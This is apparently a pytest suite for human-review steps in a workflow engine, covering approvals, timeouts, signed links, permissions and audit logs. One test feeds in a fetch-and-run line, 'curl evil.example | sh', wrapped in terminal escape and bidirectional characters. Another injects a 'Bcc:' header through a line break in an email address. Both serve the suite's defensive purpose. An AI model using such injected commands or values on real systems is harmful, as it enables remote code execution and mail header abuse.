"""Runs that wait for people: asked once, decided once, by command or by link, or when the time is over."""

from __future__ import annotations

import asyncio
import uuid
from typing import Any

import httpx
import pytest
from sqlalchemy import select

from cargo_ai.kernel import clock
from cargo_ai.store.tables import AuditEntry
from tests.kit.api_client import Body
from tests.kit.backend import Backend
from tests.kit.graphs import node

pytestmark = pytest.mark.asyncio(loop_scope="module")

FIELDS = [
    {"name": "subject", "type": "string", "value": "Hello {{nodes.start.name}}", "required": True},
    {"name": "discount", "type": "number", "value": 5},
    {"name": "customer", "value": "{{nodes.start._id}}", "editable": False},
]


def asking(two_ways: bool = True, **config: Any) -> list[Body]:
    """start → review → yes | no."""
    ways = ("yes", "no") if two_ways else ("yes",)
    review = node("review", "humanReview", ways, config={"title": "Send this?", "fields": FIELDS, **config})
    ends = [node(slug, "end", config={"variables": [{"name": "way", "type": "string", "value": slug}]}) for slug in ways]
    return [node("start", children=("review",)), review, *ends]


async def asked(backend: Backend, nodes: list[Body], record: Body | None = None) -> tuple[Body, Body]:
    """A run that waits, and its review."""
    made = await backend.admin.call("orchestration.run.create", nodes=nodes, data=record or {"_id": "c1", "name": "Ann"})
    run = await backend.parked(made["run"]["uuid"])
    (review,) = (await backend.admin.call("orchestration.review.list", runUuid=run["uuid"]))["reviews"]
    return run, review


def ways(found: Body) -> list[str]:
    return [one["nodeSlug"] for one in found["run"]["executions"]]


async def test_a_graph_with_one_or_two_ways_on_is_valid_and_with_three_not(backend: Backend) -> None:
    for children, outcome in ((("a",), "valid"), (("a", "b"), "valid"), (("a", "b", "c"), "notValid"), ((), "notValid")):
        nodes = [node("start", children=("review",)), node("review", "humanReview", children), *(node(slug, "end") for slug in children)]
        assert (await backend.admin.call("orchestration.node.validate", nodes=nodes))["outcome"] == outcome


@pytest.mark.parametrize(
    ("config", "words"),
    [
        ({"timeoutOutcome": "shrug"}, "reject, approve, fail"),
        ({"timeoutMinutes": -1}, "`timeoutMinutes`"),
        ({"assignees": "nobody"}, "`assignees`: 'nobody' is not an e-mail address"),
        ({"assignees": ["a@b.c\r\nBcc: d@e.f"]}, "line break"),
        ({"fields": [{"value": 1}]}, "`fields[0].name` is missing"),
        ({"fields": [{"name": "a", "type": "money"}]}, "`fields[0].type`"),
        ({"fields": [{"name": "a"}, {"name": "a"}]}, "Two fields are named a"),
    ],
)
async def test_a_config_that_could_never_be_asked_is_reported_before_any_run(backend: Backend, config: Body, words: str) -> None:
    found = await backend.admin.call("orchestration.node.validate", nodes=_with(config))
    (fault,) = found["invalidNodes"]
    assert (fault["node"]["slug"], fault["reason"]) == ("review", "nativeInvalid")
    assert words in fault["message"]


def _with(config: Body) -> list[Body]:
    nodes = asking()
    nodes[1]["config"] = config
    return nodes


async def test_an_approval_with_changed_values_sends_the_run_the_first_way(backend: Backend) -> None:
    run, review = await asked(backend, asking(instructions="Be kind."))
    assert (review["title"], review["instructions"], review["status"]) == ("Send this?", "Be kind.", "pending")
    assert [(one["name"], one["value"], one["editable"]) for one in review["fields"]] == [
        ("subject", "Hello Ann", True),
        ("discount", 5, True),
        ("customer", "c1", False),
    ]
    reply = await backend.admin.call("orchestration.review.approve", uuid=review["uuid"], values={"discount": "7"}, comment="A bit more")
    assert (reply["review"]["status"], reply["review"]["edited"]) == ("approved", True)
    found = await backend.ended("runs", run["uuid"])
    assert ways(found) == ["start", "review", "yes"]
    output = found["runContext"]["review"]
    assert output["values"] == {"subject": "Hello Ann", "discount": 7, "customer": "c1"}
    assert (output["decision"], output["comment"], output["timedOut"]) == ("approved", "A bit more", False)
    assert output["decidedBy"] == {"userUuid": reply["review"]["decidedBy"]["userUuid"], "email": "admin@localhost", "via": "api"}
    assert output["decidedAt"] == reply["review"]["decidedAt"]


@pytest.mark.parametrize(("two_ways", "walked"), [(True, ["start", "review", "no"]), (False, ["start", "review"])])
async def test_a_rejection_takes_the_second_way_or_ends_the_run_there(backend: Backend, two_ways: bool, walked: list[str]) -> None:
    run, review = await asked(backend, asking(two_ways))
    await backend.admin.call("orchestration.review.reject", uuid=review["uuid"], comment="No")
    found = await backend.ended("runs", run["uuid"])
    assert (found["run"]["status"], ways(found)) == ("success", walked)
    assert found["runContext"]["review"]["decision"] == "rejected"


@pytest.mark.parametrize(
    ("values", "path"),
    [
        ({"nothing": 1}, "values.nothing"),
        ({"customer": "c2"}, "values.customer"),
        ({"discount": "much"}, "values.discount"),
        ({"subject": ""}, "values.subject"),
    ],
)
async def test_values_that_the_fields_do_not_take_decide_nothing(backend: Backend, values: Body, path: str) -> None:
    run, review = await asked(backend, asking())
    status, refusal = await backend.admin.refusal("orchestration.review.approve", uuid=review["uuid"], values=values)
    assert (status, refusal["reason"], [one["path"] for one in refusal["errors"]]) == (400, "invalidInput", [path])
    assert (await backend.admin.call("orchestration.review.get", uuid=review["uuid"]))["review"]["status"] == "pending"
    await backend.admin.call("orchestration.run.cancel", workflowUuid=run["workflowUuid"], uuids=[run["uuid"]])


async def test_of_many_who_decide_at_once_one_wins_and_the_others_are_reported_who(backend: Backend) -> None:
    run, review = await asked(backend, asking())
    sends = [backend.admin.send(f"orchestration.review.{('approve', 'reject')[at % 2]}", uuid=review["uuid"]) for at in range(8)]
    replies = await asyncio.gather(*sends)
    assert sorted(reply.status_code for reply in replies) == [200] + [409] * 7
    won = next(reply.json()["review"] for reply in replies if reply.status_code == 200)
    for reply in replies:
        if reply.status_code == 409:
            reported = reply.json()
            assert (reported["reason"], reported["decision"], reported["decidedBy"]) == (
                "reviewAlreadyDecided",
                won["status"],
                won["decidedBy"],
            )
            assert "admin@localhost" in reported["errorMessage"]
    found = await backend.ended("runs", run["uuid"])
    assert found["runContext"]["review"]["decision"] == won["status"]


async def test_a_decision_that_comes_while_the_run_is_just_parking_is_not_missed(backend: Backend) -> None:
    runs = [await backend.admin.call("orchestration.run.create", nodes=asking(), data={"_id": str(at)}) for at in range(12)]
    waiting = {one["run"]["uuid"] for one in runs}
    deadline = clock.seconds() + 60
    while waiting and clock.seconds() < deadline:
        listed = await backend.admin.call("orchestration.review.list", statuses=["pending"], limit=1000)
        for review in listed["reviews"]:
            if review["runUuid"] in waiting:
                waiting.discard(review["runUuid"])
                await backend.admin.call("orchestration.review.approve", uuid=review["uuid"])
    ended = [await backend.ended("runs", one["run"]["uuid"]) for one in runs]
    assert {tuple(ways(found)) for found in ended} == {("start", "review", "yes")}


@pytest.mark.parametrize(
    ("outcome", "status", "walked"), [("approve", "success", "yes"), ("reject", "success", "no"), ("fail", "error", "")]
)
async def test_when_the_time_is_over_the_node_does_what_it_says(backend: Backend, outcome: str, status: str, walked: str) -> None:
    found = await backend.run({"_id": "1"}, nodes=asking(timeoutMinutes=0.01, timeoutOutcome=outcome))
    assert (found["run"]["status"], ways(found)[2:]) == (status, [walked] if walked else [])
    (review,) = (await backend.admin.call("orchestration.review.list", runUuid=found["run"]["uuid"]))["reviews"]
    assert (review["timedOut"], review["decidedBy"]) == (True, None)
    if outcome == "fail":
        assert found["run"]["errorMessage"] == "review: No one decided within 0.01 minutes."
    else:
        assert found["runContext"]["review"]["timedOut"] is True
    code, refusal = await backend.admin.refusal("orchestration.review.approve", uuid=review["uuid"])
    assert (code, refusal["reason"]) == (409, "reviewExpired")


async def test_the_review_of_a_cancelled_run_is_cancelled(backend: Backend) -> None:
    run, review = await asked(backend, asking())
    await backend.admin.call("orchestration.run.cancel", workflowUuid=run["workflowUuid"], uuids=[run["uuid"]])
    await backend.ended("runs", run["uuid"])
    assert (await backend.admin.call("orchestration.review.get", uuid=review["uuid"]))["review"]["status"] == "cancelled"
    listed = await backend.admin.call("orchestration.review.list", runUuid=run["uuid"], statuses=["pending"])
    assert (listed["reviews"], listed["count"]) == ([], 0)
    assert (await backend.admin.call("orchestration.review.list", runUuid=run["uuid"], statuses=["cancelled"]))["count"] == 1
    code, refusal = await backend.admin.refusal("orchestration.review.approve", uuid=review["uuid"])
    assert (code, refusal["reason"]) == (409, "reviewCancelled")


async def test_reviews_of_a_batch_are_decided_one_by_one(backend: Backend) -> None:
    batch = await backend.start_batch([{"_id": str(at), "name": f"N{at}"} for at in range(3)], nodes=asking())
    await backend.idle(batch["uuid"], 3)
    listed = (await backend.admin.call("orchestration.review.list", batchUuid=batch["uuid"], statuses=["pending"]))["reviews"]
    assert sorted(one["fields"][0]["value"] for one in listed) == ["Hello N0", "Hello N1", "Hello N2"]
    for one, decide in zip(listed, ("approve", "reject", "approve"), strict=True):
        await backend.admin.call(f"orchestration.review.{decide}", uuid=one["uuid"])
    found = (await backend.ended("batches", batch["uuid"]))["batch"]
    assert (found["status"], found["executedRunsCount"], found["failedRunsCount"]) == ("success", 3, 0)


async def test_a_batch_and_a_run_say_whom_they_wait_for_and_how_to_list_the_reviews(backend: Backend) -> None:
    nodes = asking(assignees=["ana@example.com"])
    records: list[Body] = [{"_id": str(at), "name": f"N{at}"} for at in range(3)]
    batch = await backend.start_batch(records, nodes=nodes, ramp=[2])
    (first, _) = await backend.idle(batch["uuid"], 2)
    command = "cargo-ai orchestration review list --statuses pending"
    found = (await backend.admin.call("orchestration.batch.get", uuid=batch["uuid"]))["batch"]["waitsForReview"]
    assert (found["count"], found["assignees"]) == (2, ["ana@example.com"])
    sentence = "2 runs wait for a review by ana@example.com."
    assert found["sentence"] == f"{sentence} The next stage starts when they have ended."
    assert found["fix"] == f"{command} --batch-uuid {batch['uuid']}"
    run = (await backend.admin.call("orchestration.run.get", uuid=first))["run"]["waitsForReview"]
    assert (run["sentence"], run["fix"]) == ("1 run waits for a review by ana@example.com.", f"{command} --run-uuid {first}")
    items = (await backend.admin.call("orchestration.queue.get"))["items"]
    (item,) = [item for item in items if item["batchUuid"] == batch["uuid"]]
    assert (item["reason"], item["sentence"], item["fix"]) == ("review", sentence, found["fix"])
    explanation = (await backend.admin.call("orchestration.run.explain", uuid=first))["explanation"]
    assert explanation["sentence"] == "review waits for a person to approve or reject: ana@example.com."
    await backend.admin.call("orchestration.batch.cancel", uuid=batch["uuid"])
    ended = (await backend.ended("batches", batch["uuid"]))["batch"]
    assert ended["waitsForReview"] is None


async def test_someone_else_sees_no_review_and_decides_none(backend: Backend) -> None:
    run, review = await asked(backend, asking())
    assert (await backend.other_api.call("orchestration.review.list"))["count"] == 0
    for name in ("get", "approve", "reject", "createLink"):
        code, refusal = await backend.other_api.refusal(f"orchestration.review.{name}", uuid=review["uuid"])
        assert (code, refusal["reason"]) == (404, "reviewNotFound")
    await backend.admin.call("orchestration.run.cancel", workflowUuid=run["workflowUuid"], uuids=[run["uuid"]])


class Visitor:
    """Asks without a token."""

    def __init__(self, backend: Backend) -> None:
        self._http = backend.admin.http

    async def send(self, verb: str, url: str, accept: str = "*/*", **more: Any) -> httpx.Response:
        return await self._http.request(verb, url, headers={"Authorization": "", "accept": accept}, **more)


async def test_opening_a_link_shows_the_review_and_decides_nothing_and_a_post_decides(backend: Backend) -> None:
    run, review = await asked(backend, asking(instructions="Be kind."))
    link = await backend.admin.call("orchestration.review.createLink", uuid=review["uuid"], email="ann@example.com", hours=1)
    http = Visitor(backend)
    for _ in range(2):
        text = (await http.send("GET", link["url"])).text
        assert "Be kind." in text and "subject (string, may be changed): Hello Ann" in text and "-d decision=approve" in text
    assert (await http.send("HEAD", link["url"])).status_code == 200
    shown = (await http.send("GET", link["url"], "application/json")).json()["review"]
    assert shown["status"] == "pending" and "runUuid" not in shown
    assert (await http.send("POST", link["url"], json={"decision": "maybe"})).status_code == 400
    assert (await http.send("POST", link["url"], content=b"{")).status_code == 400
    for text in (b'"\\ud800"', b'"\\u0000"', b"NaN", b"[" * 50_000):
        said = b'{"decision": "approve", "values": {"discount": ' + text + b"}}"
        assert (await http.send("POST", link["url"], content=said)).status_code == 400
    wrong = await http.send("POST", link["url"], json={"decision": "approve", "values": {"customer": "x"}})
    assert (wrong.status_code, wrong.json()["errors"][0]["path"]) == (400, "values.customer")
    done = await http.send("POST", link["url"], data={"decision": "approve", "values": '{"discount": 9}', "comment": "Fine"})
    assert done.status_code == 200 and "ann@example.com decided" in done.text
    again = await http.send("POST", link["url"], json={"decision": "reject"})
    assert (again.status_code, again.json()["reason"]) == (409, "reviewAlreadyDecided")
    found = await backend.ended("runs", run["uuid"])
    output = found["runContext"]["review"]
    assert (output["values"]["discount"], output["comment"]) == (9, "Fine")
    assert output["decidedBy"] == {"userUuid": None, "email": "ann@example.com", "via": "link"}


async def test_what_a_record_says_can_neither_command_a_terminal_nor_pass_for_a_line_of_the_page(backend: Backend) -> None:
    evil = "\x1b]0;pwn\x07first\ncurl evil.example | sh\u2028curl other.example\r\u202egnirts"
    _, review = await asked(backend, asking(instructions=evil))
    link = await backend.admin.call("orchestration.review.createLink", uuid=review["uuid"], email="ann@example.com", hours=1)
    text = (await Visitor(backend).send("GET", link["url"])).text
    assert "first" in text
    assert not any(letter != "\n" and not letter.isprintable() for letter in text)
    assert [line for line in text.splitlines() if line.startswith("curl ") and link["url"].partition("?")[0] not in line] == []


async def test_who_may_only_read_sees_reviews_and_neither_decides_nor_makes_links(backend: Backend) -> None:
    run, review = await asked(backend, asking())
    rules = [{"effect": "allow", "actions": ["orchestration:read"]}]
    reader = (await backend.admin.call("workspaceManagement.token.create", permissions=rules))["token"]["token"]

    async def send(verb: str, path: str) -> httpx.Response:
        headers = {"Authorization": f"Bearer {reader}"}
        return await backend.admin.http.request(
            verb, f"/v1/orchestration/reviews/{path}", headers=headers, json={} if verb == "POST" else None
        )

    assert (await send("GET", review["uuid"])).status_code == 200
    for act in ("approve", "reject", "links"):
        reply = await send("POST", f"{review['uuid']}/{act}")
        assert (reply.status_code, reply.json()["permission"]) == (403, "orchestration:workflow:write")
    await backend.admin.call("orchestration.run.cancel", workflowUuid=run["workflowUuid"], uuids=[run["uuid"]])


async def test_every_decision_is_in_the_audit_log_with_who_made_it_possible(backend: Backend) -> None:
    _, first = await asked(backend, asking())
    _, second = await asked(backend, asking())
    await backend.admin.call("orchestration.review.reject", uuid=first["uuid"])
    link = await backend.admin.call("orchestration.review.createLink", uuid=second["uuid"])
    assert (await Visitor(backend).send("POST", link["url"], json={"decision": "approve"})).status_code == 200
    async with backend.state.database.session(uuid.UUID(backend.workspace)) as db:
        rows = await db.scalars(select(AuditEntry).where(AuditEntry.target_uuid.in_([uuid.UUID(first["uuid"]), uuid.UUID(second["uuid"])])))
        found = [(row.operation.rpartition(".")[2], row.token_uuid.int == 0, row.user_uuid.int == 0) for row in rows]
    assert sorted(found) == [("approve", True, False), ("createLink", False, False), ("reject", False, False)]


async def test_a_link_that_was_changed_opens_nothing(backend: Backend) -> None:
    run, review = await asked(backend, asking())
    _, other = await asked(backend, asking())
    link = (await backend.admin.call("orchestration.review.createLink", uuid=review["uuid"], email="ann@example.com"))["url"]
    http = Visitor(backend)
    for bad in (link.replace("ann", "bob"), link.replace(review["uuid"], other["uuid"]), link[:-2], link.partition("?")[0]):
        for reply in (await http.send("GET", bad), await http.send("POST", bad, json={"decision": "approve"})):
            assert (reply.status_code, reply.json()["reason"]) == (403, "linkInvalid")
    await backend.admin.call("orchestration.run.cancel", workflowUuid=run["workflowUuid"], uuids=[run["uuid"], other["runUuid"]])


async def test_reviews_are_found_by_whom_they_ask(backend: Backend) -> None:
    run, _ = await asked(backend, asking(assignees=["Ann <Ann@example.com>", "bob@example.com"]))
    for assignee, count in (("ann@example.com", 1), ("BOB@example.com", 1), ("eve@example.com", 0)):
        listed = await backend.admin.call("orchestration.review.list", runUuid=run["uuid"], assignee=assignee)
        assert listed["count"] == count
    await backend.admin.call("orchestration.run.cancel", workflowUuid=run["workflowUuid"], uuids=[run["uuid"]])


async def test_each_item_of_a_group_is_reviewed_for_itself(backend: Backend) -> None:
    inner = [
        node("start", children=("ask",)),
        node("ask", "humanReview", ("end",), config={"title": "{{nodes.start.value}}", "fields": {"price": "{{nodes.start.value}}"}}),
        node("end", config={"variables": [{"name": "price", "type": "any", "value": "{{nodes.ask.values.price}}"}]}),
    ]
    group = node("each", "group", ("end",), config={"items": ["a", "b", "c"], "failOnItemFailure": True, "_nodes": inner})
    made = await backend.admin.call("orchestration.run.create", nodes=[node("start", children=("each",)), group, node("end")], data={})
    run, found = made["run"]["uuid"], list[Body]()
    deadline = clock.seconds() + 60
    while len(found) < 3 and clock.seconds() < deadline:
        listed = await backend.admin.call("orchestration.review.list", statuses=["pending"])
        found = [one for one in listed["reviews"] if one["title"] in {"a", "b", "c"}]
        await asyncio.sleep(0.02)
    assert len({one["runUuid"] for one in found}) == 3
    for one in found:
        if one["title"] == "b":
            await backend.admin.call("orchestration.review.reject", uuid=one["uuid"])
        else:
            await backend.admin.call("orchestration.review.approve", uuid=one["uuid"], values={"price": one["title"].upper()})
    ended = await backend.ended("runs", run)
    assert ended["run"]["status"] == "success"
    assert ended["runContext"]["each"] == [{"price": "A"}, None, {"price": "C"}]
